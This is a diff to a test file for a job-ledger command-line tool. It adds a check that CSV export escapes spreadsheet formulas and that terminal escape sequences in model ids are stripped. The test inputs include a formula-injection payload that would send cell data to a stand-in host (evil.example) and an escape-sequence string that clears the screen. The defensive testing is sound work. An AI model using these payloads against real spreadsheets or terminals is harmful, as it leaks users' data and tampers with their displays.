@@ -201,16 +201,23 @@ describe('the ledger', () => {
     // The coordinator names the model: an id carrying a terminal escape is stored as sent, shown folded.
     const hostile = 'nope\u001b[2J\u001b]0;owned\u0007';
     expect((await a.session.dispatch({ model_id: hostile }).done()).type).toBe('job_error');
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect((await a.session.dispatch({ model_id: formula }).done()).type).toBe('job_error');
     a.child.kill('SIGTERM');
     await a.exited;
     const table = await cli(['earnings', '--config', cfg, '--since', '1h']);
     expect(table.stdout).toMatch(/^nope \[2J \]0;owned\s/m);
     // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
     expect(table.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
+    // In CSV a cell a spreadsheet would run as a formula is written as text.
+    const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'model']);
+    expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(csv.stdout).not.toMatch(/^"?=/m);
     const db = new Database(ledgerFile(), { readonly: true });
     expect(db.pragma('user_version', { simple: true })).toBe(2);
     expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
       { job_id: 'old-1', refusal: null },
+      { job_id: expect.any(String), refusal: 'model_not_loaded' },
       { job_id: expect.any(String), refusal: 'model_not_loaded' },
     ]);
     db.close();
